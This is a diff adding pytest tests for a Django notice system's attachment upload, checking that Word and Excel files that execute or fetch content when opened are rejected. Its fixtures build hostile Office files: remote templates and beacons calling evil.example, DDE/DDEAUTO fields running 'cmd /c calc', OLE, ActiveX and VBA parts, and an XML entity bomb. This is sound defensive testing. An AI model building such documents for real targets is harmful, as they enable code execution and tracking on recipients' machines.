@@ -1,0 +1,214 @@
+"""Word and Excel attachments that run or fetch something when opened are refused, with
+what to do (save as PDF): a remote attachedTemplate, any other relationship outside the
+file but a hyperlink, DDE/DDEAUTO fields, embedded OLE objects, ActiveX controls, macro
+projects and Excel external (DDE) links. Each hostile file is built here with zipfile."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from notices.errors import NoticeError
+from notices.models import NoticeAttachment, NoticeState
+from notices.services.notices import attachment_add
+from tests.notices.conftest import csrf_client, csrf_post, make_notice
+
+WHAT_TO_DO = "请另存为 PDF 后上传"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
+CONTENT_TYPES = (
+    b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
+    b"</Types>"
+)  # fmt: skip
+
+
+def _rels(*relationships: tuple[str, str, str | None]) -> bytes:
+    items = "".join(
+        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for n, (kind, target, mode) in enumerate(relationships, start=1)
+    )
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{items}</Relationships>'
+    ).encode()
+
+
+def _document(body: str) -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>'
+        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
+    ).encode()
+
+
+PARAGRAPH = "<w:p><w:r><w:t>学籍信息更正申请表</w:t></w:r></w:p>"
+
+
+def _field(*code_runs: str) -> str:
+    """A complex field whose code is split over runs, as Word writes it."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in code_runs
+    )
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )  # fmt: skip
+
+
+def docx(parts: dict[str, bytes] | None = None) -> dict[str, bytes]:
+    """A small real .docx (a paragraph and a web link); `parts` add or replace parts."""
+    entries = {
+        "[Content_Types].xml": CONTENT_TYPES,
+        "_rels/.rels": _rels((f"{R}/officeDocument", "word/document.xml", None)),
+        "word/document.xml": _document(PARAGRAPH),
+        "word/_rels/document.xml.rels": _rels(
+            (f"{R}/hyperlink", "https://www.chsi.com.cn/", "External"),
+            (f"{R}/settings", "settings.xml", None),
+        ),
+        "word/settings.xml": f'<w:settings xmlns:w="{W}"/>'.encode(),
+    }
+    return {**entries, **(parts or {})}
+
+
+def _zip(entries: dict[str, bytes], name: str = "form.docx") -> SimpleUploadedFile:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for entry, content in entries.items():
+            archive.writestr(entry, content)
+    return SimpleUploadedFile(name, buffer.getvalue())
+
+
+@pytest.fixture
+def draft(world):
+    return make_notice(world, state=NoticeState.DRAFT)
+
+
+def _add(world, notice, entries, name="form.docx"):
+    return attachment_add(
+        notice=notice,
+        by=world.registrar,
+        title="附件 2",
+        upload=_zip(entries, name),
+        is_public=True,
+    )
+
+
+REMOTE_TEMPLATE = _rels((f"{R}/attachedTemplate", "https://evil.example/template.dotm", "External"))
+
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+DDE_SIMPLE = (
+    '<w:p><w:fldSimple w:instr=" dde &quot;cmd&quot; &quot;/c calc&quot; ">'
+    "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+)
+
+HOSTILE = {
+    "remote_attached_template": docx({SETTINGS_RELS: REMOTE_TEMPLATE}),
+    # The attribute's value written as a character reference still reads "External".
+    "remote_template_entity_encoded": docx(
+        {SETTINGS_RELS: REMOTE_TEMPLATE.replace(b'"External"', b'"&#69;xternal"')}
+    ),
+    "external_image_beacon": docx(
+        {DOCUMENT_RELS: _rels((f"{R}/image", "http://evil.example/pixel.png", "External"))}
+    ),
+    "ole_object_relationship": docx(
+        {DOCUMENT_RELS: _rels((f"{R}/oleObject", "media/x.xls", None))}
+    ),
+    "ddeauto_field_split_over_runs": docx(
+        {"word/document.xml": _document(PARAGRAPH + _field(" DD", 'EAUTO cmd.exe "/k calc"'))}
+    ),
+    "dde_simple_field": docx({"word/document.xml": _document(DDE_SIMPLE)}),
+    "ddeauto_in_footer": docx(
+        {"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{_field("DdEaUtO cmd /c calc")}</w:ftr>'.encode()}
+    ),
+    "embedded_ole_object": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}),
+    "embedded_package": docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK"}),
+    "activex_control": docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
+    "vba_project": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}),
+}  # fmt: skip
+
+XLSX = {
+    "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+    "_rels/.rels": _rels((f"{R}/officeDocument", "xl/workbook.xml", None)),
+    "xl/workbook.xml": b"<workbook/>",
+}  # fmt: skip
+
+HOSTILE_XLSX = {
+    "embedded_ole_object": {**XLSX, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
+    "dde_external_link": {
+        **XLSX,
+        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        "xl/_rels/workbook.xml.rels": _rels((f"{R}/externalLink", "externalLinks/externalLink1.xml", None)),
+    },
+    "remote_workbook_link": {
+        **XLSX,
+        "xl/_rels/workbook.xml.rels": _rels((f"{R}/externalLinkPath", "https://evil.example/a.xlsx", "External")),
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_a_docx_that_acts_when_opened_is_refused_with_what_to_do(world, draft, case):
+    with pytest.raises(NoticeError, match=WHAT_TO_DO):
+        _add(world, draft, HOSTILE[case])
+
+    assert not NoticeAttachment.objects.exists()
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_XLSX))
+def test_an_xlsx_that_acts_when_opened_is_refused_with_what_to_do(world, draft, case):
+    with pytest.raises(NoticeError, match=WHAT_TO_DO):
+        _add(world, draft, HOSTILE_XLSX[case], name="sheet.xlsx")
+
+
+def test_a_plain_docx_with_web_links_and_ordinary_fields_is_accepted(world, draft):
+    body = (
+        PARAGRAPH
+        + _field(' HYPERLINK "https://www.chsi.com.cn/" ')
+        + '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
+    )
+    footer = f'<w:ftr xmlns:w="{W}">{_field(" NUMPAGES ")}</w:ftr>'.encode()
+    upload = _zip(docx({"word/document.xml": _document(body), "word/footer1.xml": footer}))
+
+    attachment = attachment_add(
+        notice=draft, by=world.registrar, title="附件 2", upload=upload, is_public=True
+    )
+
+    assert attachment.extension == ".docx"
+    upload.seek(0)
+    assert attachment.file.read() == upload.read()
+
+
+def test_a_document_type_declaration_in_a_part_is_refused(world, draft):
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
+        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+        b'<Relationships xmlns="' + PKG.encode() + b'">&b;</Relationships>'
+    )
+
+    with pytest.raises(NoticeError, match="文件结构异常"):
+        _add(world, draft, docx({DOCUMENT_RELS: bomb}))
+
+
+def test_the_attachment_page_shows_why_a_remote_template_is_refused(world, draft):
+    client = csrf_client(world.registrar)
+    data = {
+        "title": "附件 2 申请表",
+        "file": _zip(HOSTILE["remote_attached_template"]),
+        "is_public": "on",
+    }
+
+    response = csrf_post(client, f"/notices/manage/{draft.pk}/attachments/", data, follow=True)
+
+    assert response.redirect_chain[-1][0] == f"/notices/manage/{draft.pk}/"
+    assert WHAT_TO_DO in response.content.decode()
+    assert not NoticeAttachment.objects.exists()
